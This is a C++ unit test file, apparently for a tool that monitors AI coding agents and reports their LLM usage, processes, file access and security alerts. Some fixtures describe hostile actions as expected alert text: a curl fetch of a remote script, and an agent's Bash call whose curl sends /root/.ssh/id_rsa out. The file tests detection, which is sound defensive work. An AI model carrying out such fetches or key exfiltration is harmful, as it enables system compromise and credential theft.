// SPDX-License-Identifier: Apache-2.0
// The session report: numbers from a correlated golden trace, the text form within 80
// columns, and the JSON form parsing back.
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "analysis/correlate/correlate.h"
#include "pipeline/event_json.h"
#include "report/report.h"

namespace agentsight::analyzers {
namespace {

json report_of(const std::string& path, bool correlate) {
    std::ifstream f(std::string(AGENTSIGHT_TEST_DATA) + path);
    EXPECT_TRUE(f.good()) << path;
    correlator c(default_rules(), "/home/dev/proj");
    auto prices = load_pricing("");
    EXPECT_TRUE(prices.ok());
    report_builder b(prices.value());
    emit_fn add = [&](event e) { b.add(e); };
    std::string line;
    while (std::getline(f, line)) {
        auto e = parse_event_json(line);
        if (!e.ok()) continue;
        if (correlate) c.on_event(e.value(), add);
        b.add(e.value());
    }
    if (correlate) c.finish(add);
    return b.build(path);
}

bool has_line(const std::string& text, const std::string& part) {
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line))
        if (line.find(part) != std::string::npos) return true;
    return false;
}

TEST(report, numbers_from_a_correlated_session) {
    json r = report_of("/correlate/claude_tools.jsonl", true);
    const json& llm = r["llm"];
    EXPECT_EQ(llm["calls"], 3);
    EXPECT_EQ(llm["input_tokens"], 1500 + 1600 + 1700);
    EXPECT_EQ(llm["output_tokens"], 60 + 40 + 30);
    EXPECT_EQ(llm["cache_read_tokens"], 12000 + 13500 + 14000);
    // claude-sonnet-4 prices: 3 in, 15 out, 0.3 cache read per million.
    double cost = (4800 * 3.0 + 130 * 15.0 + 39500 * 0.3) / 1e6;
    EXPECT_NEAR(llm["cost_usd"].get<double>(), cost, 1e-9);
    EXPECT_EQ(llm["duration_ms"]["p50"], 900.0);
    EXPECT_EQ(llm["duration_ms"]["max"], 1180.0);
    ASSERT_EQ(r["turns"].size(), 1u);
    EXPECT_EQ(r["turns"][0]["answer"],
              "The hostname is **devbox** and README.md describes a demo project.");
    ASSERT_EQ(r["tools"].size(), 2u);
    EXPECT_EQ(r["tools"][0]["input"]["command"], "cat /etc/hostname");
    EXPECT_EQ(r["processes"].size(), 3u);  // claude, bash, cat
    EXPECT_EQ(r["files"]["written"][0]["path"], "/tmp/claude-5e1f-cwd");
    EXPECT_EQ(r["alerts"].size(), 0u);
}

TEST(report, an_exec_chain_is_one_process_with_a_history) {
    // bash -c 'env FOO=1 ls' exec's env, which exec's ls: one pid, one row, not three, and
    // none of them "running" (issue 19).
    json r = report_of("/correlate/exec_chain.jsonl", false);
    ASSERT_EQ(r["processes"].size(), 2u);
    const json& p = r["processes"][1];
    EXPECT_EQ(p["pid"], 8101);
    EXPECT_EQ(p["comm"], "ls");
    EXPECT_EQ(p["exit_code"], 0);
    ASSERT_EQ(p["history"].size(), 2u);
    EXPECT_EQ(p["history"][0]["comm"], "bash");
    EXPECT_EQ(p["history"][1]["argv"], json::array({"env", "FOO=1", "ls", "/tmp"}));
    std::string text = render_report(r);
    EXPECT_FALSE(has_line(text, "running")) << text;
    EXPECT_TRUE(has_line(text, "exec'd from env: env FOO=1 ls /tmp")) << text;
}

TEST(report, text_fits_80_columns_and_names_what_happened) {
    std::string text = render_report(report_of("/correlate/claude_tools.jsonl", true));
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line)) EXPECT_LE(line.size(), 80u) << line;
    EXPECT_TRUE(has_line(text, "> what is the hostname, then read README.md"));
    EXPECT_TRUE(has_line(text, "< The hostname is **devbox**"));
    EXPECT_TRUE(has_line(
        text, "claude-sonnet-4-5-20250929     3    0     4800     130       39500/0   $0.0282"));
    EXPECT_TRUE(has_line(text, "latency  p50 900 ms"));
    EXPECT_TRUE(has_line(text, "  Bash  cat /etc/hostname"));
    EXPECT_TRUE(has_line(text, "linked, exit 0, 10 ms, pids 7201 7202"));
    EXPECT_TRUE(has_line(text, "      file write /tmp/claude-5e1f-cwd"));
    EXPECT_TRUE(has_line(text, "      file read /etc/hostname"));
    EXPECT_TRUE(has_line(text, "  Read  /home/dev/proj/README.md"));
    EXPECT_TRUE(has_line(text, "Processes spawned (3)"));
    EXPECT_TRUE(has_line(text, "160.79.104.10:443"));
    EXPECT_TRUE(has_line(text, "Alerts (0)"));
}

TEST(report, alerts_are_listed) {
    std::string text = render_report(report_of("/correlate/unexplained.jsonl", true));
    EXPECT_TRUE(has_line(text, "Alerts (3)"));
    EXPECT_TRUE(has_line(text, "warning  unexplained: exec curl -s http://203.0.113.9:8080/x.sh"));
    EXPECT_TRUE(has_line(text, "warning  unexplained_network: connection to 203.0.113.9:8080"));
    EXPECT_TRUE(has_line(text, "warning  opaque_connection: connection to 203.0.113.9:8080"));
}

TEST(report, alerts_are_grouped_by_rule_once_with_a_count_and_a_chain) {
    json r = report_of("/correlate/unexplained.jsonl", true);
    json chain = {{"llm_call_ts", 1},
                  {"call_id", "toolu_1"},
                  {"tool_name", "Bash"},
                  {"processes", json::array({{{"pid", 7100}, {"comm", "claude"}},
                                             {{"pid", 7200}, {"comm", "bash"}},
                                             {{"pid", 7202}, {"comm", "curl"}}})},
                  {"file", "/root/.ssh/id_rsa"},
                  {"host", "127.0.0.2:8080"},
                  {"why", "a secret was read and the same command opened a connection out"}};
    json alerts = json::array();
    for (int i = 0; i < 3; ++i)
        alerts.push_back({{"ts", i},
                          {"rule", "unexplained"},
                          {"severity", "warning"},
                          {"message", "exec x" + std::to_string(i)},
                          {"pids", json::array({7300 + i})}});
    alerts.push_back({{"ts", 9},
                      {"rule", "exfiltration"},
                      {"severity", "critical"},
                      {"message", "key sent"},
                      {"pids", json::array({7202})},
                      {"chain", chain}});
    r["alerts"] = alerts;
    r["alert_groups"] = group_alerts(alerts);
    ASSERT_EQ(r["alert_groups"].size(), 2u);
    EXPECT_EQ(r["alert_groups"][0]["rule"], "exfiltration") << "most severe first";
    EXPECT_EQ(r["alert_groups"][1]["count"], 3);
    EXPECT_EQ(r["alert_groups"][1]["pids"], json::array({7300, 7301, 7302}));
    const std::string text = render_report(r, 200);
    EXPECT_TRUE(has_line(text, "Alerts (4)"));
    EXPECT_TRUE(has_line(text, "  critical exfiltration: key sent"));
    EXPECT_TRUE(has_line(text, "  warning  unexplained (3x): exec x0"));
    EXPECT_TRUE(has_line(text,
                         "chain: Bash call toolu_1 > claude (7100) > bash (7200) > curl "
                         "(7202); file /root/.ssh/id_rsa; host 127.0.0.2:8080"))
        << text;
    EXPECT_TRUE(
        has_line(text, "why: a secret was read and the same command opened a connection out"));
}

TEST(report, json_form_parses_back) {
    json r = report_of("/ui/claude_session.jsonl", false);
    json back = json::parse(r.dump(2));
    EXPECT_EQ(back["type"], "report");
    EXPECT_EQ(back["llm"]["calls"], 2);
    EXPECT_EQ(back["tools"][0]["tool_name"], "Bash");
    EXPECT_EQ(back["session"]["session_id"], "s1");
    // That trace's tool_exec lists files as plain strings: still rendered.
    EXPECT_TRUE(has_line(render_report(back), "      file /etc/hostname"));
}

TEST(report, percentiles_by_nearest_rank) {
    EXPECT_EQ(percentile({5, 1, 3, 2, 4}, 50), 3);
    EXPECT_EQ(percentile({1, 2, 3, 4, 5, 6, 7, 8, 9, 10}, 90), 9);
    EXPECT_EQ(percentile({7}, 90), 7);
    EXPECT_EQ(percentile({}, 50), 0);
}

TEST(report, pricing_prefers_the_longest_prefix) {
    auto p = load_pricing("");
    ASSERT_TRUE(p.ok());
    EXPECT_EQ(p->find("claude-opus-4-5-20251101")->input, 5);
    EXPECT_EQ(p->find("claude-opus-4-1-20250805")->input, 15);
    EXPECT_EQ(p->find("llama-3"), nullptr);
    EXPECT_FALSE(parse_pricing("{\"models\":{\"x\":{\"input\":\"a\"}}}", "p.json").ok());
}

}  // namespace
}  // namespace agentsight::analyzers

namespace agentsight::analyzers {
namespace {

TEST(report, drops_are_pinned_on_the_process_and_tree_that_lost_them) {
    auto prices = load_pricing("");
    ASSERT_TRUE(prices.ok());
    report_builder b(prices.value());
    json stats = {{"ringbuf_drops", 0},
                  {"ring_reserve_refused", 900},
                  {"rate_limited", 100},
                  {"drops_by_pid",
                   {{{"pid", 42},
                     {"root", 40},
                     {"comm", "flood"},
                     {"ring_full", 0},
                     {"reserve", 900},
                     {"rate_limited", 100}}}},
                  {"drops_by_tree",
                   {{{"root", 40}, {"ring_full", 0}, {"reserve", 900}, {"rate_limited", 100}}}}};
    json end = {{"type", "session_end"}, {"ts", 5}, {"session_id", "s"}, {"stats", stats}};
    b.add(event(derived_event{"session_end", 5, end}));
    json r = b.build("t");
    EXPECT_EQ(r["drops"]["by_pid"][0]["pid"], 42);
    std::string text = render_report(r);
    EXPECT_TRUE(has_line(text, "Drops (1000 kernel records lost)")) << text;
    EXPECT_TRUE(
        has_line(text, "  pid 42 (flood, tree 40): reserve 900, ring full 0, rate-limited 100"))
        << text;
}

TEST(report, no_drops_no_drops_section) {
    auto prices = load_pricing("");
    ASSERT_TRUE(prices.ok());
    report_builder b(prices.value());
    EXPECT_FALSE(has_line(render_report(b.build("t")), "Drops"));
}

}  // namespace
}  // namespace agentsight::analyzers
